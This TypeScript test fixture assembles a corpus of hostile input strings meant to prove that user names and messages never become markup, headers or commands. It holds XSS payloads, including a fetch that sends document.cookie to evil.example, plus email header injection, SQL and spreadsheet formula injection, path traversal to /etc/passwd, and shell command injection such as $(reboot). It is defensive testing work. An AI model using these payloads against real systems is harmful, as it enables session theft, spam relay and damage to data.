/** Texts of attackers for names and messages. None of them may become markup, a header or a command. */

const scripts = ['alert(1)', "fetch('//evil.example/'+document.cookie)", 'top.location=`//evil.example`']
const elements = [
  'img src=x',
  'svg',
  'video src=x',
  'audio src=x',
  'body',
  'input autofocus',
  'details open',
  'iframe',
  'object data=x',
  'marquee',
  'math',
  'a href=x',
  'button',
  'select autofocus',
  'style',
  'link rel=stylesheet href=x',
]
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onclick', 'onanimationstart']
const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '&#106;avascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example',
  'https://evil.example/?q="onmouseover=alert(1)',
]
const breaks = ['\r\n', '\n', '\r', '\u0085', '\u2028', '\u2029', '\v', '\f', '%0d%0a', '\\r\\n', '=0D=0A']
const headers = [
  'Bcc: all@evil.example',
  'To: all@evil.example',
  'Content-Type: text/html',
  'Reply-To: evil@evil.example',
  '\r\nA new body',
]

const elementsWithHandlers = elements.flatMap(element =>
  handlers.map((handler, at) => `<${element} ${handler}=${scripts[at % scripts.length]}>`),
)
const links = addresses.flatMap(address => [
  `<a href="${address}">x</a>`,
  `<form action='${address}'><input type=submit>`,
  `[x](${address})`,
  `<meta http-equiv=refresh content="0;url=${address}">`,
  `<base href="${address}">`,
  `<iframe src="${address}">`,
])
const escapes = scripts.flatMap(script => [
  `<script>${script}</script>`,
  `<script/x>${script}</script>`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `</title><script>${script}</script>`,
  `</textarea><script>${script}</script>`,
  `--><script>${script}</script><!--`,
  `]]><script>${script}</script>`,
  `"><script>${script}</script>`,
  `'><script>${script}</script>`,
  `" onmouseover="${script}`,
  `' onmouseover='${script}`,
  `<svg><script>${script}</script></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `\u202e>${script}<`,
  `\u003cscript\u003e${script}`,
  `&lt;script&gt;${script}&lt;/script&gt;`,
  `+ADw-script+AD4-${script}+ADw-/script+AD4-`,
  `{{constructor.constructor('${script}')()}}`,
  `\${${script}}`,
  `<%= ${script} %>`,
])
const injections = breaks.flatMap(lineBreak => headers.map(header => `Hello${lineBreak}${header}`))
const others = [
  "'; drop table users; --",
  "' or 1=1 --",
  '=cmd|calc!A0',
  '../../etc/passwd',
  '$(reboot)',
  '`reboot`',
  '| reboot',
  '\u001b[2J\u001b]0;x\u0007',
  '\ud800 lone',
  '\ufeff\u200b\u2066x',
  '@everyone',
  '<!doctype html><html><body>',
  '<mj-raw>',
  '#set($x=1)',
]

export const hostileTexts: readonly string[] = [...elementsWithHandlers, ...links, ...escapes, ...injections, ...others]
